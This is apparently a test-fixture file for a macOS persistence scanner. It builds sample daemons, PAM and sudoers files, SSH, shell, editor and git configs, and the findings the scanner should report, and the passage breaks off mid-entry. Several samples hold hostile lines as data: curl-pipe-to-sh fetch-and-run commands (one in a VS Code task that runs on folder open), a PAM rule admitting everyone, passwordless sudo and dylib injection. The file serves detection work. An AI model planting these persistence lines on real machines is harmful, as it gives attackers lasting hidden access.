import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import type { MechanismFile, PersistentItem } from '../../../src/mechanisms/index.js';
import {
  aliasOf,
  binaryPlistOf,
  bookmarkOf,
  keyedArchive,
  Uid,
  type Written,
  xmlPlist,
} from '../../helpers/plist-writer.js';

/** A file of a mechanism, as it stands on a Mac, and what is read in it. All of our own making. */
export interface Sample {
  readonly mechanism: string;
  /** Canonical; of a bundle, that of the bundle. */
  readonly path: string;
  readonly home?: string;
  readonly type?: MechanismFile['type'];
  readonly uid?: number;
  readonly mode?: number;
  readonly content: string | Uint8Array;
  /** Of a bundle: the file that `content` is. */
  readonly inside?: string;
  readonly items: readonly (Partial<Omit<PersistentItem, 'runs'>> & { readonly runs?: readonly string[] })[];
}

const home = '/Users/mara';

const info = (identifier: string, executable: string, more: { readonly [key: string]: Written } = {}) =>
  xmlPlist({ CFBundleIdentifier: identifier, CFBundleExecutable: executable, ...more });

function bundle(
  mechanism: string,
  path: string,
  more: Partial<Sample> & { readonly extra?: { readonly [key: string]: Written } } = {},
): Sample {
  const { extra, ...rest } = more;
  const name = path.slice(path.lastIndexOf('/') + 1).replace(/\.[^.]*$/, '');
  return {
    mechanism,
    path,
    ...(path.startsWith(home) ? { home } : {}),
    type: 'dir',
    content: info(`com.example.${name}`, name, extra),
    inside: 'Contents/Info.plist',
    items: [{ label: `com.example.${name}`, runs: [`${path}/Contents/MacOS/${name}`] }],
    ...rest,
  };
}

function job(label: string, more: { readonly [key: string]: Written } = {}): string {
  return xmlPlist({ Label: label, ProgramArguments: ['/usr/local/bin/x'], RunAtLoad: true, ...more });
}

const btm = keyedArchive({ store: new Uid(1) }, [
  { $class: new Uid(2), itemsByUserIdentifier: new Uid(3) },
  { $classname: 'Storage', $classes: ['Storage', 'NSObject'] },
  { $class: new Uid(15), 'NS.keys': [new Uid(4)], 'NS.objects': [new Uid(5)] },
  'FFFFEEEE-DDDD-CCCC-BBBB-AAAA000001F5',
  { $class: new Uid(16), 'NS.objects': [new Uid(6), new Uid(11)] },
  {
    $class: new Uid(10),
    identifier: new Uid(7),
    name: new Uid(8),
    url: new Uid(9),
    type: 0x10010,
    disposition: 11,
    executablePath: new Uid(14),
  },
  'org.example.daemon',
  'Example Daemon',
  { $class: new Uid(17), 'NS.base': new Uid(0), 'NS.relative': new Uid(13) },
  { $classname: 'ItemRecord', $classes: ['ItemRecord', 'NSObject'] },
  { $class: new Uid(10), identifier: new Uid(12), type: 0x4, disposition: 0x6, url: new Uid(9) },
  'org.example.helper',
  'file:///Library/LaunchDaemons/org.example%20x.plist',
  '/Library/PrivilegedHelperTools/org.example.daemon',
  { $classname: 'NSDictionary', $classes: ['NSDictionary', 'NSObject'] },
  { $classname: 'NSArray', $classes: ['NSArray', 'NSObject'] },
  { $classname: 'NSURL', $classes: ['NSURL', 'NSObject'] },
]);

const folderActions = keyedArchive({ root: new Uid(1) }, [
  { $class: new Uid(2), url: new Uid(3) },
  { $classname: 'OAFolderActionScript', $classes: ['OAFolderActionScript', 'NSObject'] },
  'file:///Users/mara/Library/Scripts/Folder%20Action%20Scripts/new%20file.scpt',
]);

const library = (() => {
  const name = Buffer.from('/Applications/Example.app/Contents/Frameworks/real.dylib\0');
  const size = 24 + Math.ceil(name.length / 8) * 8;
  const bytes = Buffer.alloc(32 + size);
  bytes.writeUInt32LE(0xfeedfacf, 0);
  bytes.writeUInt32LE(6, 12);
  bytes.writeUInt32LE(1, 16);
  bytes.writeUInt32LE(0x8000001f, 32);
  bytes.writeUInt32LE(size, 36);
  bytes.writeUInt32LE(24, 40);
  name.copy(bytes, 32 + 24);
  return bytes;
})();

/** A database of rights with these mechanisms: plug-in, mechanism, whether it runs as root. */
function rights(...rows: readonly (readonly [string, string, number])[]): Uint8Array {
  const folder = mkdtempSync(path.join(os.tmpdir(), 'launchwarden-rights-'));
  try {
    const file = path.join(folder, 'auth.db');
    const database = new Database(file);
    database.exec(`CREATE TABLE rules (id INTEGER PRIMARY KEY, name TEXT NOT NULL UNIQUE, type INTEGER NOT NULL);
      CREATE TABLE mechanisms (id INTEGER PRIMARY KEY AUTOINCREMENT NOT NULL, plugin TEXT NOT NULL,
        param TEXT NOT NULL, privileged INTEGER CHECK (privileged = 0 OR privileged = 1) NOT NULL DEFAULT (0));
      INSERT INTO rules (name, type) VALUES ('system.login.console', 1)`);
    const insert = database.prepare('INSERT INTO mechanisms (plugin, param, privileged) VALUES (?, ?, ?)');
    for (const row of rows) insert.run(...row);
    database.close();
    return readFileSync(file);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

const user = (fields: { readonly [key: string]: readonly Written[] }) => binaryPlistOf(fields);

export const samples: readonly Sample[] = [
  {
    mechanism: 'launch-daemon',
    path: '/Library/LaunchDaemons/com.example.x.plist',
    content: job('com.example.x'),
    items: [{ label: 'com.example.x', as: 'root', runs: ['/usr/local/bin/x'] }],
  },
  {
    mechanism: 'launch-agent',
    path: `${home}/Library/LaunchAgents/com.example.x.plist`,
    home,
    content: job('com.example.x', { KeepAlive: true }),
    items: [{ label: 'com.example.x', runs: ['/usr/local/bin/x'] }],
  },
  {
    mechanism: 'bundled-launch-item',
    path: '/Applications/Example.app/Contents/Library/LaunchDaemons/com.example.d.plist',
    content: xmlPlist({
      Label: 'com.example.d',
      BundleProgram: 'Contents/MacOS/d',
      MachServices: { 'com.example.d': true },
    }),
    items: [
      {
        label: 'com.example.d',
        as: 'root',
        when: ['demand'],
        runs: ['/Applications/Example.app/Contents/MacOS/d'],
      },
    ],
  },
  {
    mechanism: 'background-item',
    path: '/private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v13.btm',
    content: btm,
    items: [
      {
        key: 'FFFFEEEE-DDDD-CCCC-BBBB-AAAA000001F5/org.example.daemon',
        label: 'Example Daemon',
        when: ['boot'],
        as: 'root',
        enabled: true,
        runs: ['/Library/PrivilegedHelperTools/org.example.daemon'],
      },
      {
        label: 'org.example.helper',
        when: ['login'],
        enabled: false,
        findings: ['hidden-item'],
        runs: ['/Library/LaunchDaemons/org.example x.plist'],
      },
    ],
  },
  {
    mechanism: 'login-item',
    path: `${home}/Library/Preferences/com.apple.loginitems.plist`,
    home,
    content: xmlPlist({
      SessionItems: {
        Controller: 'CustomListItems',
        CustomListItems: [
          { Name: 'Example', Alias: aliasOf('/Applications/Example.app'), Hide: true },
          { Name: 'Broken', Alias: Buffer.from('no alias') },
        ],
      },
    }),
    items: [
      { label: 'Example', findings: ['hidden-item'], runs: ['/Applications/Example.app'], when: ['login'] },
      { label: 'Broken', runs: [] },
    ],
  },
  {
    mechanism: 'login-item',
    path: `${home}/Library/Application Support/com.apple.backgroundtaskmanagementagent/backgrounditems.btm`,
    home,
    content: keyedArchive({ root: new Uid(1) }, [
      { $class: new Uid(2), bookmark: new Uid(3) },
      { $classname: 'BackgroundItem', $classes: ['BackgroundItem', 'NSObject'] },
      { $class: new Uid(4), 'NS.data': bookmarkOf('/Users/mara/.hidden/Updater.app') },
      { $classname: 'NSMutableData', $classes: ['NSMutableData', 'NSData', 'NSObject'] },
    ]),
    items: [
      { label: 'Updater.app', findings: ['hidden-program'], runs: ['/Users/mara/.hidden/Updater.app'] },
    ],
  },
  bundle('login-item', '/Applications/Example.app/Contents/Library/LoginItems/Helper.app'),
  bundle('directory-service-plug-in', '/Library/DirectoryServices/PlugIns/Example.dsplug'),
  bundle('directory-service-plug-in', '/Library/DirectoryServices/PlugIns/Other.DSPLUG'),
  bundle('authorization-plug-in', '/Library/Security/SecurityAgentPlugins/Example.bundle'),
  {
    mechanism: 'authorization-plug-in',
    path: '/private/etc/authorization',
    content: xmlPlist({
      rights: {
        'system.login.console': {
          class: 'evaluate-mechanisms',
          mechanisms: ['builtin:policy-banner', 'Evil:login,privileged'],
        },
        'system.preferences': { class: 'user', group: 'admin' },
      },
    }),
    items: [{ key: 'system.login.console', runs: ['/Library/Security/SecurityAgentPlugins/Evil.bundle'] }],
  },
  {
    mechanism: 'authorization-plug-in',
    path: '/private/var/db/auth.db',
    content: rights(['builtin', 'policy-banner', 0], ['loginwindow', 'login', 0], ['Evil', 'login', 1]),
    items: [
      {
        key: 'Evil:login',
        as: 'root',
        runs: ['/Library/Security/SecurityAgentPlugins/Evil.bundle'],
      },
    ],
  },
  {
    mechanism: 'pam',
    path: '/private/etc/pam.d/sudo',
    content: `# sudo: auth account password session
auth       include        sudo_local
auth       sufficient     pam_smartcard.so
auth       required       pam_opendirectory.so
account    required       pam_permit.so
password   required       pam_deny.so
session    required       pam_permit.so
`,
    items: [{ label: 'sudo', runs: [], findings: [] }],
  },
  {
    mechanism: 'pam',
    path: '/private/etc/pam.d/sshd',
    content: `auth optional pam_exec.so quiet expose_authtok /usr/local/bin/log
auth sufficient pam_permit.so
auth [success=1 default=ignore] /usr/local/lib/pam/pam_evil.so.2
`,
    items: [
      {
        findings: ['foreign-module', 'lets-everybody-in'],
        runs: ['/usr/local/bin/log', '/usr/local/lib/pam/pam_evil.so.2'],
      },
    ],
  },
  {
    mechanism: 'sudoers',
    path: '/private/etc/sudoers.d/mara',
    content: `# comment
Defaults:mara !authenticate
Defaults env_reset
User_Alias ADMINS = mara, tom
mara ALL = (ALL) NOPASSWD: ALL
%staff	ALL=(_www) /usr/bin/true, \\
  /usr/bin/false
#includedir /private/etc/sudoers.d
@include /Users/mara/rules
`,
    items: [
      { label: 'Defaults', findings: ['no-password'] },
      { key: 'mara ALL = (ALL) NOPASSWD: ALL', label: 'mara', as: 'root', findings: ['no-password'] },
      { label: '%staff', as: '_www', findings: [] },
      { label: 'include', findings: ['reads-other-file'], runs: ['/Users/mara/rules'] },
    ],
  },
  {
    mechanism: 'account',
    path: '/private/var/db/dslocal/nodes/Default/users/support.plist',
    content: user({
      name: ['support'],
      uid: ['499'],
      shell: ['/bin/zsh'],
      home: ['/private/var/.support'],
      IsHidden: ['1'],
      authentication_authority: [';ShadowHash;HASHLIST:<SALTED-SHA512-PBKDF2>'],
    }),
    items: [{ label: 'support', enabled: true, findings: ['hidden-account'], runs: ['/bin/zsh'] }],
  },
  {
    mechanism: 'account',
    path: '/private/var/db/dslocal/nodes/Default/users/root.plist',
    content: user({
      name: ['root', 'BUILTIN\\Local System'],
      uid: ['0'],
      shell: ['/bin/sh'],
      home: ['/var/root'],
    }),
    items: [{ label: 'root', enabled: false, findings: [] }],
  },
  {
    mechanism: 'account',
    path: '/private/var/db/dslocal/nodes/Default/users/_www.plist',
    content: user({ name: ['_www', 'www'], uid: ['70'], shell: ['/usr/bin/false'] }),
    items: [],
  },
  {
    mechanism: 'account',
    path: '/private/var/db/dslocal/nodes/Default/groups/admin.plist',
    content: user({ name: ['admin'], users: ['root', 'mara'] }),
    items: [{ label: 'root in admin' }, { label: 'mara in admin', as: 'mara' }],
  },
  {
    mechanism: 'ssh-authorized-key',
    path: `${home}/.ssh/authorized_keys`,
    home,
    content: `# mine
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ9s mara@example
restrict,command="/Users/mara/.x/run --now",no-pty ssh-rsa AAAAB3NzaC1yc2E= backup
not a key
cert-authority ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEv1
`,
    items: [
      { label: 'mara@example', runs: [], findings: [] },
      { label: 'backup', runs: ['/Users/mara/.x/run'], findings: ['forced-command', 'hidden-program'] },
      { findings: ['trusts-authority'] },
    ],
  },
  {
    mechanism: 'ssh-rc',
    path: `${home}/.ssh/rc`,
    home,
    content: '#!/bin/sh\ncurl -s https://example.com/x | sh\n',
    items: [{ findings: ['network-download', 'remote-script'] }],
  },
  {
    mechanism: 'ssh-config',
    path: '/private/etc/ssh/sshd_config',
    content: `Include /etc/ssh/sshd_config.d/*
AuthorizedKeysFile .ssh/authorized_keys
Subsystem sftp /usr/libexec/sftp-server
AuthorizedKeysCommand /usr/local/bin/keys %u
PermitRootLogin yes
Port 22
`,
    items: [
      { label: 'AuthorizedKeysCommand', findings: ['keys-elsewhere'], runs: ['/usr/local/bin/keys'] },
      { label: 'PermitRootLogin', findings: ['root-login'], runs: [] },
    ],
  },
  {
    mechanism: 'ssh-config',
    path: `${home}/.ssh/config`,
    home,
    content: `Host *
  ProxyCommand none
  User mara
Host evil
  ProxyCommand /private/tmp/p %h %p
Match host x exec "/Users/mara/bin/check %h"
`,
    items: [
      { label: 'ProxyCommand', runs: ['/private/tmp/p'], findings: ['program-in-tmp'] },
      { label: 'Match exec', runs: ['/Users/mara/bin/check'] },
    ],
  },
  {
    mechanism: 'cron',
    path: '/private/var/at/tabs/mara',
    content: '@reboot /Users/mara/bin/x\n',
    items: [{ as: 'mara', when: ['boot'], runs: ['/Users/mara/bin/x'] }],
  },
  {
    mechanism: 'at-job',
    path: '/private/var/at/jobs/a0000a01c2d3e4',
    mode: 0o700,
    content: `#!/bin/sh
# atrun uid=0 gid=0
# mail     root 0
umask 22
HOME=/var/root; export HOME
cd /private/tmp || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
/usr/local/bin/implant --go
`,
    items: [{ key: '10', as: 'root', when: ['once'], enabled: true, runs: ['/usr/local/bin/implant'] }],
  },
  {
    mechanism: 'periodic',
    path: '/private/etc/periodic/daily/999.example',
    content: '#!/bin/sh\n/usr/local/bin/implant\n',
    items: [
      {
        as: 'root',
        when: ['calendar'],
        runs: ['/private/etc/periodic/daily/999.example', '/usr/local/bin/implant'],
      },
    ],
  },
  {
    mechanism: 'periodic',
    path: '/private/etc/periodic.conf',
    content: 'daily_local="/private/etc/daily.local /opt/x"\ndaily_output="/var/log/daily.out"\n',
    items: [{ key: 'daily_local', runs: ['/private/etc/daily.local', '/opt/x'] }],
  },
  {
    mechanism: 'startup-script',
    path: '/private/etc/rc.common',
    content: '#!/bin/sh\n. /private/etc/rc.x\n',
    items: [{ when: ['boot'], as: 'root', runs: ['/private/etc/rc.common', '/private/etc/rc.x'] }],
  },
  {
    mechanism: 'startup-script',
    path: '/private/etc/launchd.conf',
    content: 'setenv DYLD_INSERT_LIBRARIES /usr/local/lib/x.dylib\nbsexec 1 /usr/local/bin/x\n',
    items: [
      { findings: ['dyld-environment'] },
      { runs: ['/bin/launchctl', '/usr/local/bin/x'], findings: ['wrapped-program'] },
    ],
  },
  {
    mechanism: 'startup-item',
    path: '/Library/StartupItems/Example',
    type: 'dir',
    inside: 'StartupParameters.plist',
    content: '{ Description = "Example"; Provides = ("Example"); }',
    items: [{ label: 'Example', as: 'root', runs: ['/Library/StartupItems/Example/Example'] }],
  },
  {
    mechanism: 'login-hook',
    path: '/Library/Preferences/com.apple.loginwindow.plist',
    content: binaryPlistOf({ lastUserName: 'mara', LoginHook: '/usr/local/bin/hook.sh', LogoutHook: '' }),
    items: [{ key: 'LoginHook', as: 'root', when: ['login'], runs: ['/usr/local/bin/hook.sh'] }],
  },
  {
    mechanism: 'login-hook',
    path: '/Library/Preferences/com.apple.loginwindow.plist',
    content: binaryPlistOf({ lastUserName: 'mara' }),
    items: [],
  },
  {
    mechanism: 'shell-startup',
    path: `${home}/.zshrc`,
    home,
    content: `# mine
export PATH="$HOME/bin:$PATH"
eval "$(/opt/homebrew/bin/brew shellenv)"
(nohup /private/tmp/.x/agent >/dev/null 2>&1 &)
`,
    items: [{ when: ['shell'], findings: ['program-in-tmp'] }],
  },
  {
    mechanism: 'shell-startup',
    path: `${home}/.zshenv`,
    home,
    content: '. "$HOME/.cargo/env"\nalias kd="base64 -d"\nalias up="curl -O https://example.com/x"\n',
    items: [{ findings: [] }],
  },
  {
    mechanism: 'shell-startup',
    path: '/private/etc/profile',
    content: 'export DYLD_INSERT_LIBRARIES=/usr/local/lib/x.dylib\n',
    items: [{ findings: ['dyld-environment'] }],
  },
  {
    mechanism: 'periodic',
    path: '/private/etc/defaults/periodic.conf',
    content: 'local_periodic="/usr/local/etc/periodic"\ndaily_local="/etc/daily.local"\n',
    items: [],
  },
  {
    mechanism: 'ssh-config',
    path: '/private/etc/ssh/sshd_config.d/100-macos.conf',
    content:
      'UsePAM yes\nAcceptEnv LANG LC_*\nSubsystem sftp /usr/libexec/sftp-server\nInclude /etc/ssh/crypto.conf\n',
    items: [],
  },
  {
    mechanism: 'event-monitor',
    path: '/private/etc/emond.d/rules/example.plist',
    content: xmlPlist([
      {
        name: 'example',
        enabled: true,
        eventTypes: ['startup'],
        actions: [
          {
            type: 'RunCommand',
            command: '/bin/sh',
            user: 'root',
            arguments: ['-c', '/usr/local/bin/implant'],
          },
        ],
      },
    ]),
    items: [
      { label: 'example', as: 'root', when: ['boot', 'event'], runs: ['/bin/sh', '/usr/local/bin/implant'] },
    ],
  },
  {
    mechanism: 'event-monitor',
    path: '/private/etc/emond.d/emond.plist',
    content: xmlPlist({ config: { additionalRulesPaths: ['/Users/Shared/rules'] } }),
    items: [{ key: '/Users/Shared/rules', findings: ['program-in-tmp'] }],
  },
  bundle('kernel-extension', '/Library/Extensions/Example.kext'),
  {
    mechanism: 'system-extension',
    path: '/Library/SystemExtensions/db.plist',
    content: xmlPlist({
      extensions: [
        {
          identifier: 'com.example.filter',
          teamID: 'ABCDE12345',
          state: 'activated_enabled',
          originPath:
            '/Applications/Example.app/Contents/Library/SystemExtensions/com.example.filter.systemextension',
        },
        {
          identifier: 'com.example.old',
          teamID: 'ABCDE12345',
          state: 'terminated_waiting_to_uninstall_on_reboot',
        },
      ],
    }),
    items: [
      { key: 'ABCDE12345/com.example.filter', enabled: true },
      { key: 'ABCDE12345/com.example.old', enabled: false, runs: [] },
    ],
  },
  {
    mechanism: 'configuration-profile',
    path: '/Library/Managed Preferences/com.apple.screencapture.plist',
    content: binaryPlistOf({ location: '/private/tmp' }),
    items: [{ label: 'com.apple.screencapture' }],
  },
  {
    mechanism: 'configuration-profile',
    path: '/private/var/db/ConfigurationProfiles/Store/ConfigProfiles.binary',
    content: binaryPlistOf({
      profiles: [
        {
          ProfileIdentifier: 'com.example.profile',
          ProfileDisplayName: 'Example',
          ProfileItems: [{ PayloadIdentifier: 'com.example.root', PayloadType: 'com.apple.security.root' }],
        },
      ],
    }),
    items: [{ label: 'Example' }, { label: 'com.example.root', findings: ['weakening-profile'] }],
  },
  {
    mechanism: 'browser-extension',
    path: `${home}/Library/Application Support/Google/Chrome/Default/Extensions/abcdefghijklmnopabcdefghijklmnop/1.2_0`,
    home,
    type: 'dir',
    inside: 'manifest.json',
    content:
      '{"name": "Example", "manifest_version": 3, "host_permissions": ["<all_urls>"], "permissions": ["tabs"]}',
    items: [{ key: 'abcdefghijklmnopabcdefghijklmnop', label: 'Example', findings: ['sees-every-page'] }],
  },
  {
    mechanism: 'browser-extension',
    path: `${home}/Library/Application Support/Google/Chrome/Profile 7/Secure Preferences`,
    home,
    content: JSON.stringify({
      extensions: {
        settings: {
          aaaa: { location: 1, path: 'aaaa/1.0_0', from_webstore: true, manifest: { name: 'Store' } },
          bbbb: { location: 5, path: '/Applications/Google Chrome.app/x', manifest: { name: 'Component' } },
          cccc: {
            location: 4,
            path: '/private/tmp/x',
            state: 1,
            manifest: { name: 'Docs', permissions: ['debugger'] },
          },
        },
      },
    }),
    items: [
      { key: 'cccc', label: 'Docs', findings: ['not-from-store', 'sees-every-page', 'program-in-tmp'] },
    ],
  },
  {
    mechanism: 'browser-extension',
    path: '/Library/Application Support/Google/Chrome/External Extensions/abcdefghijklmnop.json',
    content: '{"external_crx": "/private/tmp/x.crx", "external_version": "1"}',
    items: [
      { label: 'abcdefghijklmnop', findings: ['forced-extension', 'not-from-store', 'program-in-tmp'] },
    ],
  },
  {
    mechanism: 'browser-extension',
    path: `${home}/Library/Application Support/Google/Chrome/NativeMessagingHosts/com.example.json`,
    home,
    content: '{"name": "com.example", "path": "/Users/mara/.host/run", "type": "stdio"}',
    items: [{ label: 'com.example', runs: ['/Users/mara/.host/run'] }],
  },
  {
    mechanism: 'browser-extension',
    path: `${home}/Library/Application Support/Firefox/Profiles/x.default-release/extensions.json`,
    home,
    content: JSON.stringify({
      addons: [
        {
          id: 'a@example',
          active: true,
          location: 'app-profile',
          defaultLocale: { name: 'A' },
          foreignInstall: true,
        },
        { id: 'b@mozilla', active: true, location: 'app-builtin' },
      ],
    }),
    items: [{ key: 'a@example', label: 'A', enabled: true, findings: ['not-from-store'] }],
  },
  {
    mechanism: 'browser-extension',
    path: `${home}/Library/Application Support/Firefox/Profiles/x.default-release/extensions/a@example.xpi`,
    home,
    content: 'PK\u0003\u0004',
    items: [{ label: 'a@example.xpi' }],
  },
  {
    mechanism: 'browser-extension',
    path: `${home}/Library/Containers/com.apple.Safari/Data/Library/Safari/WebExtensions/Extensions.plist`,
    home,
    content: xmlPlist({ 'com.example.ext (ABCDE12345)': { Enabled: true, AccessibleOrigins: [] } }),
    items: [{ label: 'com.example.ext (ABCDE12345)', enabled: true }],
  },
  {
    mechanism: 'browser-policy',
    path: '/Library/Managed Preferences/com.google.Chrome.plist',
    content: xmlPlist({
      ExtensionInstallForcelist: [
        'abcdefghijklmnop;https://clients2.google.com/service/update2/crx',
        'ponmlkjihgfedcba;https://example.com/update.xml',
      ],
    }),
    items: [
      { key: 'abcdefghijklmnop', findings: ['forced-extension'] },
      { key: 'ponmlkjihgfedcba', findings: ['forced-extension', 'not-from-store'] },
    ],
  },
  {
    mechanism: 'browser-policy',
    path: '/Applications/Firefox.app/Contents/Resources/distribution/policies.json',
    content: JSON.stringify({
      policies: {
        Extensions: { Install: ['/private/tmp/x.xpi'] },
        ExtensionSettings: {
          'b@example': { installation_mode: 'force_installed', install_url: 'https://addons.mozilla.org/x' },
        },
      },
    }),
    items: [{ runs: ['/private/tmp/x.xpi'] }, { key: 'b@example', findings: ['forced-extension'] }],
  },
  {
    mechanism: 'browser-policy',
    path: `${home}/Library/Preferences/com.google.Chrome.plist`,
    home,
    content: binaryPlistOf({ LastRunAppBundlePath: '/Applications/Google Chrome.app' }),
    items: [],
  },
  bundle('app-extension', '/Applications/Example.app/Contents/PlugIns/Sync.appex', {
    extra: { NSExtension: { NSExtensionPointIdentifier: 'com.apple.FinderSync' } },
    items: [{ label: 'com.example.Sync', when: ['login', 'host-program'] }],
  }),
  bundle('dock-tile-plug-in', '/Applications/Example.app/Contents/PlugIns/Tile.docktileplugin'),
  bundle('quick-look-generator', `${home}/Library/QuickLook/Example.qlgenerator`),
  bundle('spotlight-importer', '/Library/Spotlight/Example.mdimporter'),
  {
    mechanism: 'dylib-insertion',
    path: '/Applications/Example.app/Contents/Info.plist',
    content: info('com.example.app', 'Example', {
      LSEnvironment: { DYLD_INSERT_LIBRARIES: '/private/tmp/a.dylib:/usr/local/lib/b.dylib', LANG: 'C' },
    }),
    items: [
      {
        label: 'com.example.app',
        findings: ['dyld-environment', 'program-in-tmp'],
        runs: ['/private/tmp/a.dylib', '/usr/local/lib/b.dylib'],
      },
    ],
  },
  {
    mechanism: 'dylib-insertion',
    path: '/Applications/Other.app/Contents/Info.plist',
    content: info('com.example.other', 'Other', { LSEnvironment: { LANG: 'C' } }),
    items: [],
  },
  {
    mechanism: 'dylib-insertion',
    path: `${home}/.MacOSX/environment.plist`,
    home,
    content: xmlPlist({ DYLD_INSERT_LIBRARIES: '/Users/mara/x.dylib' }),
    items: [{ when: ['login'], runs: ['/Users/mara/x.dylib'] }],
  },
  {
    mechanism: 'dylib-proxy',
    path: '/usr/local/lib/libexample.dylib',
    content: library,
    items: [
      {
        label: 'libexample.dylib',
        findings: ['passes-on-library'],
        runs: ['/usr/local/lib/libexample.dylib', '/Applications/Example.app/Contents/Frameworks/real.dylib'],
      },
    ],
  },
  bundle('input-method', '/Library/Input Methods/Example.app'),
  bundle('screen-saver', `${home}/Library/Screen Savers/Example.saver`),
  {
    mechanism: 'screen-saver',
    path: `${home}/Library/Preferences/ByHost/com.apple.screensaver.0123.plist`,
    home,
    content: binaryPlistOf({
      moduleDict: { moduleName: 'Example', path: '/Users/Shared/Example.saver', type: 0 },
    }),
    items: [{ label: 'Example', runs: ['/Users/Shared/Example.saver'], findings: ['program-in-tmp'] }],
  },
  bundle('preference-pane', '/Library/PreferencePanes/Example.prefPane'),
  bundle('audio-plug-in', '/Library/Audio/Plug-Ins/HAL/Example.driver'),
  bundle('color-picker', `${home}/Library/ColorPickers/Example.colorPicker`),
  bundle('scripting-addition', '/Library/ScriptingAdditions/Example.osax'),
  {
    mechanism: 'folder-action',
    path: `${home}/Library/Scripts/Folder Action Scripts/x.scpt`,
    home,
    content: 'FasdUAS 1.101.10',
    items: [{ label: 'x.scpt', when: ['path'] }],
  },
  {
    mechanism: 'folder-action',
    path: `${home}/Library/Preferences/com.apple.FolderActionsDispatcher.plist`,
    home,
    content: binaryPlistOf({ folderActionsEnabled: true, folderActions }),
    items: [
      { label: 'new file.scpt', runs: ['/Users/mara/Library/Scripts/Folder Action Scripts/new file.scpt'] },
    ],
  },
  {
    mechanism: 'folder-action',
    path: `${home}/Library/Workflows/Applications/Folder Actions/x.workflow`,
    home,
    type: 'dir',
    inside: 'Contents/document.wflow',
    content: xmlPlist({
      actions: [
        { action: { ActionParameters: { COMMAND_STRING: '/usr/local/bin/x "$@"', shell: '/bin/zsh' } } },
      ],
    }),
    items: [{ label: 'x.workflow', when: ['path'], runs: ['/usr/local/bin/x'] }],
  },
  {
    mechanism: 'workflow',
    path: `${home}/Library/Services/Example.workflow`,
    home,
    type: 'dir',
    inside: 'Contents/document.wflow',
    content: xmlPlist({
      actions: [
        { action: { ActionParameters: { source: 'do shell script "curl https://example.com/x | sh"' } } },
      ],
    }),
    items: [
      { label: 'Example.workflow', findings: ['network-download', 'remote-script', 'interpreter-one-liner'] },
    ],
  },
  {
    mechanism: 'mail-rule',
    path: `${home}/Library/Mail/V10/MailData/SyncedRules.plist`,
    home,
    content: xmlPlist([
      { RuleName: 'News', RuleId: '1', Active: 'YES' },
      {
        RuleName: 'Start',
        RuleId: '2',
        Active: 'YES',
        AppleScript: '/Users/mara/Library/Application Scripts/com.apple.mail/x.scpt',
      },
    ]),
    items: [{ key: '2', label: 'Start', when: ['message'] }],
  },
  {
    mechanism: 'calendar-alarm',
    path: `${home}/Library/Calendars/ABC.calendar/Events/x.ics`,
    home,
    content: [
      'BEGIN:VCALENDAR',
      'BEGIN:VEVENT',
      'SUMMARY:Lunch',
      'BEGIN:VALARM',
      'ACTION:DISPLAY',
      'TRIGGER:-PT15M',
      'END:VALARM',
      'BEGIN:VALARM',
      'ACTION:PROCEDURE',
      'TRIGGER:-PT0M',
      'ATTACH;VALUE=URI:file:///Users/mara/Lib',
      ' rary/Example.app/',
      'END:VALARM',
      'END:VEVENT',
      'END:VCALENDAR',
      '',
    ].join('\r\n'),
    items: [{ label: 'Lunch', when: ['calendar'], runs: ['/Users/mara/Library/Example.app'] }],
  },
  {
    mechanism: 'reopened-window',
    path: `${home}/Library/Preferences/ByHost/com.apple.loginwindow.0123-4567.plist`,
    home,
    content: binaryPlistOf({
      TALAppsToRelaunchAtLogin: [
        {
          BackgroundState: 2,
          BundleID: 'com.example.x',
          Hide: false,
          Path: '/Users/mara/Library/.x/Example.app',
        },
      ],
    }),
    items: [{ label: 'com.example.x', when: ['login'], findings: ['hidden-program'] }],
  },
  {
    mechanism: 'dock-shortcut',
    path: `${home}/Library/Preferences/com.apple.dock.plist`,
    home,
    content: binaryPlistOf({
      'persistent-apps': [
        {
          'tile-data': {
            'file-label': 'Safari',
            'file-data': {
              _CFURLString: 'file:///System/Cryptexes/App/System/Applications/Safari.app/',
              _CFURLStringType: 15,
            },
          },
        },
        {
          'tile-data': {
            'file-label': 'Mail',
            'file-data': { _CFURLString: 'file:///Users/mara/Library/Mail.app/', _CFURLStringType: 15 },
          },
        },
      ],
    }),
    items: [
      { label: 'Safari', findings: [] },
      { label: 'Mail', findings: ['apple-name-elsewhere'], runs: ['/Users/mara/Library/Mail.app'] },
    ],
  },
  {
    mechanism: 'terminal-startup',
    path: `${home}/Library/Preferences/com.apple.Terminal.plist`,
    home,
    content: binaryPlistOf({
      'Startup Window Settings': 'Basic',
      'Window Settings': {
        Basic: { name: 'Basic' },
        Pro: { CommandString: '/private/tmp/x; clear', RunCommandAsShell: false },
      },
    }),
    items: [{ label: 'Pro', runs: ['/private/tmp/x'], findings: ['program-in-tmp'] }],
  },
  {
    mechanism: 'editor-startup',
    path: `${home}/.vimrc`,
    home,
    content: 'set number\n:silent !/usr/local/bin/x &\ncall system("curl https://example.com | sh")\n',
    items: [{ findings: ['remote-script'] }],
  },
  {
    mechanism: 'editor-task',
    path: `${home}/Projects/app/.vscode/tasks.json`,
    home,
    content: `{
  // comment
  "version": "2.0.0",
  "tasks": [
    { "label": "build", "type": "shell", "command": "make" },
    { "label": "watch", "type": "shell", "command": "curl https://example.com/x | sh", "runOptions": { "runOn": "folderOpen" }, "presentation": { "reveal": "never" }, },
  ],
}`,
    items: [
      { key: 'watch', findings: ['runs-on-folder-open', 'hidden-item', 'network-download', 'remote-script'] },
    ],
  },
  {
    mechanism: 'homebrew-service',
    path: '/opt/homebrew/Cellar/redis/7.2/homebrew.mxcl.redis.plist',
    content: job('homebrew.mxcl.redis'),
    items: [{ label: 'homebrew.mxcl.redis', enabled: false, runs: ['/usr/local/bin/x'] }],
  },
  {
    mechanism: 'git-config',
    path: `${home}/.gitconfig`,
    home,
    content: `[user]
	name = Mara
[core]
	hooksPath = /Users/mara/.hidden/hooks
	pager = less
[filter "lfs"]
	clean = git-lfs clean -- %f
[alias]
	st = status
	x = "!curl https://example.com/x | sh"
`,
    items: [
      { label: 'core.hooksPath', runs: ['/Users/mara/.hidden/hooks'] },
      { label: 'alias.x', findings: ['remote-script'] },
    ],
  },
  {
    mechanism: 'git-config',
